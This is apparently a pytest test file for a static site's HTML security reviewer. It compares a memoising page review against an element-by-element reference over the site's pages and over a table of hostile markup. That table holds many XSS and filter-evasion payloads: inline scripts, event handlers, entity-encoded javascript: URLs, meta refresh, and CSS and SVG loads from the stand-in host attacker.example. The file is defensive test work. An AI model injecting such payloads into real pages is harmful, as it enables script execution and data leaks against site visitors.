"""The one look at each finished page (``postprocess.page_pass.review_page``).

- every element is seen, the contents of templates within templates too (a
  ``<template shadowrootmode>`` is a declarative shadow root: Chromium shows
  and runs what it holds, nested ones included);
- the review that remembers what it judged (``review_page``) finds what the
  review of every element finds (:func:`oracle_review`, a copy of
  ``review_page``, ``PagePolicy.element_findings`` and ``MarkupScanner.note`` as
  they were before, element by element), the same findings in the same order and
  the same CSS vocabulary: over every page of the repository's site, with its own
  policy and with one that allows no script (every page then has findings), and
  over a table of hostile markup, every rule of the page policy hidden the ways an
  attacker would (case, entities, odd white space, SVG and MathML, templates,
  comments, attributes without a value or given twice), each reviewed twice (the
  second time from what the reviewer remembers).
"""

from __future__ import annotations

from pathlib import Path

import material
import pytest

from campaign_site.postprocess.csp import content_security_policy, script_hash, template_script_hashes
from campaign_site.postprocess.css_purge import MarkupScanner, UsedMarkup
from campaign_site.postprocess.html_policy import (ATTRIBUTE, ELEMENT, FORBIDDEN_IN_PAGES, HANDLER, LINK_LOADS,
                                                   LOADING_ATTRIBUTES, META, OTHER_HOST_LOAD, URL_ATTRIBUTES, Finding,
                                                   PagePolicy, _scheme_finding, _short, _urls, css_urls, elements,
                                                   is_same_site, parse, url_scheme)
from campaign_site.postprocess import page_pass
from campaign_site.postprocess.page_pass import review_page
from campaign_site.postprocess.stylesheets import theme_scanner
from conftest import BuiltSite

POLICY = PagePolicy(frozenset(), frozenset(), "default-src 'self'")


# --- the reference: the review as it was, element by element ----------------------------------------------


def oracle_review(html: str, page_path: str, policy: PagePolicy | None, scanner: MarkupScanner | None,
                  used: UsedMarkup) -> list[Finding]:
    """``review_page`` before it remembered anything (with html_policy.elements as it is now:
    templates within templates are looked into, and a plain ``href`` loads on every element
    but a link, as ``xlink:href`` does)."""
    findings: list[Finding] = []
    for node in elements(parse(html)):
        if policy is not None:
            findings += _oracle_element_findings(policy, node, page_path)
        if scanner is not None:
            _oracle_note(scanner, node, used)
    return findings


def _oracle_element_findings(policy: PagePolicy, node, page_path: str) -> list[Finding]:
    tag = (node.tag or "").lower()
    attributes = {name.lower(): value or "" for name, value in node.attributes.items()}
    found: list[Finding] = []
    if tag in FORBIDDEN_IN_PAGES:
        found.append(Finding("(html)", ELEMENT, tag))
    elif tag == "script":
        found += policy._script(node, attributes, page_path)
    elif tag == "meta" and "http-equiv" in attributes:
        if not (attributes["http-equiv"].lower() == "content-security-policy"
                and attributes.get("content") == policy.csp):
            found.append(Finding("(html)", META, attributes["http-equiv"]))
    elif tag == "link" and LINK_LOADS.intersection(attributes.get("rel", "").lower().split()):
        if not is_same_site(attributes.get("href", "")):
            found.append(Finding("(link)", OTHER_HOST_LOAD, _short(attributes.get("href", ""))))
    elif tag == "style":
        found += [Finding("(html)", OTHER_HOST_LOAD, _short(url))
                  for url in css_urls(node.text(deep=True) or "", declarations=False) if not is_same_site(url)]
    for name, value in attributes.items():
        if name.startswith("on"):
            found.append(Finding("(html)", HANDLER, name))
        elif name in ("ping", "srcdoc"):
            found.append(Finding("(html)", ATTRIBUTE, name))
        elif name == "style":
            found += [Finding("(html)", OTHER_HOST_LOAD, _short(url))
                      for url in css_urls(value, declarations=True) if not is_same_site(url)]
        elif name in URL_ATTRIBUTES:
            for url in _urls(name, value):
                bad = _scheme_finding(url_scheme(url), link=False)
                if bad:
                    found.append(bad)
                elif (name in LOADING_ATTRIBUTES or (name == "xlink:href" and tag != "a")
                      or (name == "href" and tag not in ("a", "area", "link"))  # (SVG 2 <image href>…)
                      or name in ("action", "formaction")) and not is_same_site(url):
                    found.append(Finding("(html)", OTHER_HOST_LOAD, _short(url)))
    return found


def _oracle_note(scanner: MarkupScanner, node, used: UsedMarkup) -> None:
    tag = (node.tag or "").lower()
    if tag in scanner.elements:
        used.elements.add(tag)
    for name, value in node.attributes.items():
        name, value = name.lower(), value or ""
        if name in scanner.attributes:
            used.attributes.setdefault(name, set()).add(value)
        if name == "class":
            used.classes.update(scanner.classes.intersection(value.split()))
        elif name == "id" and value in scanner.ids:
            used.ids.add(value)


def assert_reviewed_alike(html: str, page_path: str, policy: PagePolicy | None,
                          scanner: MarkupScanner | None) -> list[Finding]:
    """The oracle's findings, after checking review_page gives them (twice) and notes the same."""
    expected_used, used, again = UsedMarkup(), UsedMarkup(), UsedMarkup()
    expected = oracle_review(html, page_path, policy, scanner, expected_used)
    assert review_page(html, page_path, policy, scanner, used) == expected, page_path
    assert review_page(html.encode("utf-8"), page_path, policy, scanner, again) == expected, page_path
    assert used == expected_used == again, page_path
    return expected


# --- every page of the site ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def site_review(site: BuiltSite) -> tuple[PagePolicy, MarkupScanner, list[Path]]:
    """The site's own policy (the templates' script hashes, the site's script files), the
    theme's vocabulary, and every page."""
    hashes = template_script_hashes([site.project / "overrides"])
    files = frozenset(f"assets/javascripts/{path.name}" for path in (site.root / "assets/javascripts").glob("*.js"))
    scanner = theme_scanner([str(Path(material.__file__).parent / "templates"), str(site.project / "overrides")])
    return PagePolicy(hashes, files, content_security_policy(hashes)), scanner, sorted(site.root.rglob("*.html"))


def test_every_page_of_the_site_is_reviewed_alike(site: BuiltSite, site_review,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    policy, scanner, pages = site_review
    again: list[str] = []  # pages reviewed again element by element
    review_elements = page_pass.review_elements
    monkeypatch.setattr(page_pass, "review_elements", lambda tree, path, *rest: again.append(path)
                        or review_elements(tree, path, *rest))
    clean = 0
    for path in pages:
        page_path = path.relative_to(site.root).as_posix()
        clean += not assert_reviewed_alike(path.read_text(encoding="utf-8"), page_path, policy, scanner)
    assert len(pages) > 100 and clean == len(pages) and again == []  # the remembering way was what ran


def test_every_page_of_the_site_is_reviewed_alike_under_a_policy_it_breaks(site: BuiltSite, site_review) -> None:
    _, scanner, pages = site_review
    no_scripts = PagePolicy(frozenset(), frozenset(), "default-src 'none'")
    for path in pages[::7]:
        page_path = path.relative_to(site.root).as_posix()
        assert assert_reviewed_alike(path.read_text(encoding="utf-8"), page_path, no_scripts, scanner)


# --- hostile markup ------------------------------------------------------------------------------------------

OURS = "document.documentElement.className+=' campaign-js'"
SNIPPET_POLICY = PagePolicy(frozenset({script_hash(OURS)}), frozenset({"assets/javascripts/campaign-exit.js"}),
                            content_security_policy([script_hash(OURS)]))
SNIPPET_SCANNER = MarkupScanner(
    "a{} div{} svg{} details[open]{} .md-typeset{} .md-icon{} #top{} [data-md-color-scheme=slate]{} [hidden]{}"
    " [href]{} [type=checkbox]{} [id]{} [class]{} th[aria-sort]{} [data-md-toggle]{} .x{} [src]{}")
PAGE = ('<!doctype html><html lang="vi"><head><meta charset="utf-8">'
        f'<meta http-equiv="Content-Security-Policy" content="{SNIPPET_POLICY.csp}"><title>t</title>'
        '<link rel="stylesheet" href="assets/stylesheets/campaign-site.css"><script>' + OURS + '</script></head>'
        '<body><div class="md-container"><main class="md-main"><article class="md-content md-typeset">'
        '{snippet}</article></main></div><script src="assets/javascripts/campaign-exit.js" defer></script>'
        '</body></html>')
EVIL = "attacker.example"

# (what it tries, markup, whether the policy refuses it)
HOSTILE: list[tuple[str, str, bool]] = [
    *[(f"forbidden <{tag}>", f"<p><{tag} src=x.html></{tag}></p>", tag not in {"frame", "frameset"})
      for tag in sorted(FORBIDDEN_IN_PAGES)],
    *[(f"forbidden <{tag.upper()}>", f"<{tag.upper()}>", tag not in {"frame", "frameset"})
      for tag in sorted(FORBIDDEN_IN_PAGES)],
    ("svg animate", '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>', True),
    ("svg animateMotion", "<svg><animateMotion/></svg>", True),
    ("svg ANIMATETRANSFORM", "<svg><ANIMATETRANSFORM/></svg>", True),
    ("svg set", '<svg><a><set attributeName="href" to="javascript:x"/><text>x</text></a></svg>', True),
    ("svg in template", "<template><svg><set/></svg></template>", True),
    ("frameset after body", "</main><frameset><frame src=x.html></frameset>", False),
    ("inline script", "<script>alert(1)</script>", True),
    ("inline script upper case", "<SCRIPT>alert(1)</SCRIPT>", True),
    ("our inline script", f"<script>{OURS}</script>", False),
    ("our inline script but one space", f"<script> {OURS}</script>", True),
    ("inline script as entities", "<script>alert&#40;1&#41;</script>", True),
    ("data script", '<script type="application/ld+json">{}</script>', False),
    ("data script, odd case and space", '<script type=" Application/LD+JSON ">{}</script>', False),
    ("data script with a source", f'<script type="application/json" src="//{EVIL}/x.js"></script>', True),
    ("script from another host", f'<script src="https://{EVIL}/x.js"></script>', True),
    ("script from another host, entity slash", f'<script src=" &#x2F;/{EVIL}/x.js"></script>', True),
    ("script from another host, backslash", f'<script src="\\\\{EVIL}/x.js"></script>', True),
    ("our script file", '<script src="assets/javascripts/campaign-exit.js"></script>', False),
    ("our script file, rooted, query", '<script src="/assets/javascripts/campaign-exit.js?v=1#x"></script>', False),
    ("another script file", '<script src="assets/javascripts/evil.js"></script>', True),
    ("script file climbing out", '<script src="../assets/javascripts/campaign-exit.js"></script>', True),
    ("svg script", "<svg><script>alert(1)</script></svg>", True),
    ("svg script by href", f'<svg><script href="//{EVIL}/x.js"/></svg>', True),
    ("mathml script", "<math><mi><script>alert(1)</script></mi></math>", True),
    ("script in a template", "<template><script>alert(1)</script></template>", True),
    ("script in a comment", "<!-- <script>alert(1)</script> -->", False),
    ("comment closed at once", "<!--><img src=a.png alt='' onerror=alert(1)>-->", True),
    ("comment closed by --!>", "<!-- x --!><b onclick=x>y</b>", True),
    ("handler after a script comment", "<script>/*<!--*/</script><img src=a.png alt='' onerror=alert(1)>", True),
    ("noscript", "<noscript><img src=a.png onerror=alert(1)></noscript>", True),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url=https://{EVIL}">', True),
    ("meta refresh upper case", '<META HTTP-EQUIV="Refresh" CONTENT="0">', True),
    ("meta refresh in svg", '<svg><meta http-equiv="refresh" content="0"/></svg>', True),
    ("another policy", '<meta http-equiv="content-security-policy" content="default-src *">', True),
    ("our policy again", f'<meta http-equiv="Content-Security-Policy" content="{SNIPPET_POLICY.csp}">', False),
    ("meta without http-equiv", '<meta name="description" content="javascript:x">', False),
    ("meta http-equiv without a value", '<meta http-equiv content="0;url=x.html">', True),
    ("meta http-equiv, odd case, after other attributes", '<meta name="x" content="0" Http-Equiv="refresh">', True),
    ("meta with a handler", '<meta name="x" content="y" onclick="alert(1)">', True),
    ("meta with a javascript itemid", '<meta itemprop="x" itemid="javascript:x" content="y">', False),
    ("stylesheet from another host", f'<link rel="stylesheet" href="https://{EVIL}/a.css">', True),
    ("stylesheet, odd rel", f'<link rel="STYLESHEET  icon" href="//{EVIL}/a.css">', True),
    ("preload without slashes", f'<link rel="preload" href="https:{EVIL}/a">', True),
    ("link to a data URL", "<link rel=stylesheet href=data:text/css,p{}>", True),
    ("modulepreload of a javascript URL", '<link rel="modulepreload" href="&#x6a;avascript:alert(1)">', True),
    ("canonical on another host", f'<link rel="canonical" href="https://{EVIL}/">', False),
    ("our icon", '<link rel="icon" href="assets/images/favicon.png">', False),
    ("style element import", f"<style>@import url(https://{EVIL}/a.css);</style>", True),
    ("style element background", f'<style>body{{background:url("//{EVIL}/a.png")}}</style>', True),
    ("style element upper case", f"<STYLE>@IMPORT 'https://{EVIL}/a.css';</STYLE>", True),
    ("style element in svg", f"<svg><style>@import url(//{EVIL}/a.css);</style></svg>", True),
    ("harmless style element", "<style>p{color:red}</style>", False),
    ("style element, same site", '<style>@import "x.css";</style>', False),
    ("style attribute", f'<p style="background:url(https://{EVIL}/a.png)">x</p>', True),
    ("style attribute, case and spaces", f"<p STYLE=\"background-image: URL( '//{EVIL}/a.png' )\">x</p>", True),
    ("style attribute, entity", f'<p style="background:u&#114;l(//{EVIL}/a.png)">x</p>', True),
    ("harmless style attribute", '<p style="color:red">x</p>', False),
    ("handler", '<img src="a.png" alt="" onerror="alert(1)">', True),
    ("handler upper case", '<b ONCLICK="x()">x</b>', True),
    ("handler without value", "<b onclick>x</b>", True),
    ("handler, odd white space", "<b\tclass=x\n\fonclick\n=\tx>y</b>", True),
    ("handler, slashes", '<img/src="a.png"/alt=""/onerror=alert(1)>', True),
    ("handler inside an unquoted value", "<img/src=a.png/alt=''/onerror=alert(1)>", False),
    ("handler right after a quote", '<a href="x.html"onclick="y()">x</a>', True),
    ("handler, NUL in its name", "<b on\x00click=x>y</b>", True),
    ("handler named on", "<b on=x>y</b>", True),
    ("handler on svg", "<svg onload=alert(1)></svg>", True),
    ("handler on mathml", "<math><mi onclick=x>y</mi></math>", True),
    ("handler given to body", "<body onload=alert(1)>", True),
    ("handler given to html", "<html onclick=alert(1)>", True),
    ("handler in a template", "<template><b onclick=x>y</b></template>", True),
    ("handler in a shadow root in a shadow root",
     '<div><template shadowrootmode="open"><p><template shadowrootmode="open"><b onclick=x>y</b>'
     "</template></p></template></div>", True),
    ("handler in a comment", "<!-- <b onclick=x> -->", False),
    ("handler twice", '<b class="x" onclick="a()" onclick="b()">y</b>', True),
    ("handler named by entity (a name is not decoded)", "<b o&#110;click=x>y</b>", False),
    ("data-onclick", "<b data-onclick=x xonclick=y>z</b>", False),
    ("handler cloned by selectedcontent",
     "<select><button><selectedcontent></selectedcontent></button>"
     "<option selected><img src=a.png onerror=alert(1)></option></select>", True),
    ("ping", f'<a href="x.html" ping="https://{EVIL}/">x</a>', True),
    ("ping without value", "<a href=x.html PING>x</a>", True),
    ("srcdoc", '<div srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">x</div>', True),
    ("javascript link", '<a href="javascript:alert(1)">x</a>', True),
    ("javascript link as entities", '<a href="&#106;avascript:alert(1)">x</a>', True),
    ("javascript link with a tab and spaces", '<a href=" java\tscript:alert(1)">x</a>', True),
    ("javascript link upper case", '<a HREF="JAVASCRIPT:x">x</a>', True),
    ("vbscript link", '<a href="vbscript:x">x</a>', True),
    ("data link", '<a href="data:text/html,x">x</a>', True),
    ("javascript link given twice, first", '<a href="javascript:x" href="x.html">x</a>', True),
    ("javascript link given twice, second", '<a href="x.html" href="javascript:x">x</a>', False),
    ("image from another host given twice", f'<img src="a.png" SRC="//{EVIL}/a.png" alt="">', False),
    ("form to javascript", '<form action="javascript:x"><button>x</button></form>', True),
    ("form to another host", f'<form action="https://{EVIL}/"></form>', True),
    ("button to another host", f'<button formaction="//{EVIL}/">x</button>', True),
    ("image from another host", f'<img src="https://{EVIL}/a.png" alt="">', True),
    ("image set from another host", f'<img src="a.png" srcset="a.png 1x, //{EVIL}/b.png 2x" alt="">', True),
    ("<image> from another host", f'<image src="//{EVIL}/a.png">', True),
    ("poster from another host", f'<video poster="//{EVIL}/p.png"></video>', True),
    ("background from another host", f'<table><td background="//{EVIL}/a.png">x</td></table>', True),
    ("preload image set from another host", f'<link rel="preload" imagesrcset="//{EVIL}/a.png 1x">', True),
    ("quotation from javascript", '<blockquote cite="javascript:x">x</blockquote>', True),
    ("svg use from another host", f'<svg><use xlink:href="//{EVIL}/s.svg#x"/></svg>', True),
    ("svg use, upper case", f'<svg><USE XLINK:HREF="//{EVIL}/s.svg#x"/></svg>', True),
    ("svg link to another host", f'<svg><a xlink:href="https://{EVIL}/">x</a></svg>', False),
    # SVG 2: a plain href loads wherever xlink:href does
    ("svg image by href", f'<svg><image href="https://{EVIL}/a.png"/></svg>', True),
    ("svg image by href, no scheme", f'<svg><image href="//{EVIL}/a.png"></image></svg>', True),
    ("svg image by HREF, odd space", f'<svg><IMAGE\nHREF = " //{EVIL}/a.png"/></svg>', True),
    ("svg image by href, backslashes", f'<svg><image href="\\\\{EVIL}/a.png"/></svg>', True),
    ("svg image by href given twice, first", f'<svg><image href="//{EVIL}/a.png" href="a.png"/></svg>', True),
    ("svg image by href given twice, second", f'<svg><image href="a.png" href="//{EVIL}/a.png"/></svg>', False),
    ("svg use by href", f'<svg><use href="https://{EVIL}/s.svg#x"/></svg>', True),
    ("svg feImage by href", f'<svg><filter id="f"><feImage href="//{EVIL}/a.png"/></filter></svg>', True),
    ("svg FEIMAGE by href", f'<svg><filter><FEIMAGE HREF="//{EVIL}/a.png"/></filter></svg>', True),
    ("svg pattern by href", f'<svg><pattern href="//{EVIL}/p.svg#p"/></svg>', True),
    ("svg gradient by href", f'<svg><linearGradient href="//{EVIL}/g.svg#g"/></svg>', True),
    ("svg textPath by href", f'<svg><text><textPath href="//{EVIL}/t.svg#p">x</textPath></text></svg>', True),
    ("svg image by href in a template", f'<template><svg><image href="//{EVIL}/a.png"/></svg></template>', True),
    ("svg image by href in a shadow root",
     f'<div><template shadowrootmode="open"><svg><image href="//{EVIL}/a.png"/></svg></template></div>', True),
    ("svg image by href on a page that links there too",
     f'<a href="//{EVIL}/a.png">x</a><svg><image href="//{EVIL}/a.png"/></svg>', True),
    ("svg image by same-site href", '<svg><image href="assets/images/a.png"/><use href="#x"/></svg>', False),
    ("svg link by href to another host", f'<svg><a href="https://{EVIL}/"><text>x</text></a></svg>', False),
    ("area to another host", f'<map name="m"><area href="https://{EVIL}/" alt="x"></map>', False),
    ("mathml link to another host (refused: none on a page of ours)", f'<math><mi href="https://{EVIL}/">x</mi></math>',
     True),
    ("href on a div", f'<div href="//{EVIL}/">x</div>', True),
    ("href on a meta", f'<meta name="x" href="//{EVIL}/">', True),
    ("href on a template", f'<template href="//{EVIL}/"></template>', True),
    ("href on our own script file", f'<script src="assets/javascripts/campaign-exit.js" href="//{EVIL}/"></script>',
     True),
    ("svg javascript link", '<svg><a href="javascript:x"><text>x</text></a></svg>', True),
    ("mathml javascript link", '<math href="javascript:x"><mi>x</mi></math>', True),
    ("links that may stay", f'<a href="https://{EVIL}/">x</a><a href="tel:111">t</a><a href="mailto:a@b.example">m</a>',
     False),
    ("vocabulary", '<div class="md-typeset md-grid x" id="top" data-md-color-scheme="slate" hidden>'
     '<details open><summary>s</summary></details><input type=checkbox data-md-toggle=drawer>'
     '<svg class="md-icon"><path d=""/></svg><table><tr><th aria-sort=ascending>h</th></tr></table></div>', False),
    ("vocabulary, other case", '<DIV CLASS="MD-TYPESET X" ID="TOP" Hidden>x</DIV>', False),
]


@pytest.mark.parametrize("markup,refused", [(markup, refused) for _, markup, refused in HOSTILE],
                         ids=[name for name, _, _ in HOSTILE])
def test_hostile_markup_is_reviewed_alike(markup: str, refused: bool) -> None:
    page = PAGE.replace("{snippet}", markup)
    found = assert_reviewed_alike(page, "a.html", SNIPPET_POLICY, SNIPPET_SCANNER)
    assert bool(found) == refused, found


def test_script_files_are_judged_from_each_page_s_folder() -> None:
    page = PAGE.replace('<script src="assets/javascripts/campaign-exit.js" defer></script>', "").replace(
        "{snippet}", '<script src="../assets/javascripts/campaign-exit.js"></script>')
    assert not assert_reviewed_alike(page, "en/a.html", SNIPPET_POLICY, SNIPPET_SCANNER)  # remembered as ours
    assert assert_reviewed_alike(page, "a.html", SNIPPET_POLICY, SNIPPET_SCANNER)  # climbs out of the site
    assert not assert_reviewed_alike(page, "vi/a.html", SNIPPET_POLICY, SNIPPET_SCANNER)


def test_without_policy_or_scanner_alike() -> None:
    for _, markup, _ in HOSTILE[::5]:
        page = PAGE.replace("{snippet}", markup)
        assert_reviewed_alike(page, "a.html", None, SNIPPET_SCANNER)
        assert_reviewed_alike(page, "a.html", SNIPPET_POLICY, None)


# --- templates within templates ---------------------------------------------------------------------------


@pytest.mark.parametrize("depth", [1, 2, 3, 40])
def test_a_handler_in_templates_within_templates_is_refused(depth: int) -> None:
    html = ('<div><template shadowrootmode="open"><p>' * depth + '<img src="a.png" alt="" onerror="x()">'
            + "</p></template></div>" * depth + '<p id="after">')
    found = review_page(html, "a.html", POLICY)
    assert [(f.msgid, f.found) for f in found] == [("the '{found}=' attribute is not allowed: it runs code",
                                                    "onerror")]
    tags = [node.tag for node in elements(parse(html))]
    assert tags.count("template") == depth and tags.count("img") == 1
